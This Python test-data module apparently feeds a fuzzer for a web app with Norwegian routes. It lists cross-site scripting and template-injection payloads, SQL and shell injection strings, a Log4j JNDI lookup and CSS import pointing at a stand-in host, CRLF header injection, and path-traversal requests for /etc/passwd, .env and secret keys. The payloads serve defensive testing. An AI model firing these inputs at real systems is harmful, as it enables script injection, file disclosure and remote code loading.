"""What people who mean harm write into fields, addresses and headers."""

SCRIPTS = (
    "<script>document.body.dataset.broken=1</script>",
    '"><script>document.body.dataset.broken=1</script>',
    "'><img src=x onerror=document.body.dataset.broken=1>",
    "<svg/onload=document.body.dataset.broken=1>",
    "</textarea><script>document.body.dataset.broken=1</script>",
    "</title><script>document.body.dataset.broken=1</script>",
    '" autofocus onfocus=document.body.dataset.broken=1 x="',
    "<details open ontoggle=document.body.dataset.broken=1>",
    "<iframe srcdoc='<script>parent.document.body.dataset.broken=1</script>'>",
    "javascript:document.body.dataset.broken=1",
    "{{ 7*7 }}{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}",
    "<style>@import'//evil.example/x.css';</style>",
    "<base href=//evil.example/><a href=x>",
    "<form action=//evil.example/><button>",
    "<math><mtext></mtext><script>document.body.dataset.broken=1</script></math>",
    "＜script＞document.body.dataset.broken=1＜/script＞",
)
"""Whatever of this is run leaves a mark on the page."""

STRANGE = (
    "\0", "a\0b", "\r\nSet-Cookie: skranke=evil\r\n\r\n", "a\nb", "\u202edrowssap\u202c", "\u2066\u2069\u200f",
    "\ufeff", "\ufffe", "\U000e0001", "e\u0301" * 40, "ﷺ" * 50, "\u0000\u0001\u001f\u007f\u0085\u2028",
    "１２３４５６７８",
    "' OR '1'='1' --", "\"; DROP TABLE saved_visit; --", "$(id)", "`id`", "|id", "%s%n%x",
    "${jndi:ldap://evil.example/}",
    "=cmd|' /C calc'!A0", "../../../../etc/passwd", "file:///etc/passwd", "-1", "1e309", "NaN", "0x7f", "9" * 400,
    "true", "null", "[]", "{}", "Ω" * 300, "a" * 5_000, "", " ", "\t",
)  # fmt: skip
TEXTS = (*SCRIPTS, *STRANGE)

RAW = (
    b"\xff\xfe",
    b"\xed\xa0\x80",
    b"%ED%A0%80",
    b"%00",
    b"%0d%0aX-Evil:%201",
    b"%",
    b"%zz",
    b"\xc0\xaf",
    b"\xf4\x90\x80\x80",
)
"""What is no text in any common encoding: lone surrogates, overlong forms, halves of an escape."""

PATHS = (
    b"/../../etc/passwd", b"/static/../../pyproject.toml", b"/static/..%2f..%2fpyproject.toml",
    b"/static/%2e%2e/config.py",
    b"/static/....//....//etc/passwd", b"/static//etc/passwd", b"/static/built/../../config.py",
    b"/tilbud/../../etc/passwd",
    b"/tilbud/..%2f..%2fetc%2fpasswd", b"/slik-virker-det/../../etc/passwd", b"//evil.example/",
    b"/\\evil.example", b"/.git/config",
    b"/.env", b"/instance/secret_key", b"/wizard.sqlite", b"/trappen/99999999999999999999",
    b"/trappen/-1", b"/trappen/1.5",
    b"/sporsmal/0", b"/sporsmal/\xd9\xa1", b"/sporsmal/1%00", b"/\xff\xfe", b"/%ff", b"/\xed\xa0\x80",
    b"/" + b"a" * 4_000,
    b"/" + b"a/" * 1_000, b"/skranke/henvendelser/2026-0001-A", b"/skranke/ring-tilbake/99999999999999999999",
    b"/skranke/../skranke", b"/metrics", b"/healthz/..", b"/.well-known/security.txt/..", b"/;/", b"/?", b"/#", b"/*",
)  # fmt: skip
HOSTS = (
    "evil.example",
    "evil.example:80",
    "localhost@evil.example",
    "a" * 300,
    "",
    "[::1",
    "127.0.0.1:99999",
    "e\tvil",
    "x y",
)
ELSEWHERE = (
    "//evil.example", "https://evil.example", "/\\evil.example", "\\\\evil.example",
    "javascript:alert(1)", "/skranke//evil.example",
    "/skranke/../../evil", "/%2f/evil.example", "skranke", "/skranke\r\nLocation: //evil.example",
    "/skranke?x=//evil.example",
)  # fmt: skip
FIELDS = (
    "answer", "question", "need", "csrf_token", "once", "days", "code", "delete", "tekst", "alder",
    "trinn", "vei", "gir", "trygt",
    "navn", "telefon", "nar", "beskjed", "svar", "nummer", "passord", "passord2", "engangskode", "kode",
    "videre", "desk", "about",
)  # fmt: skip
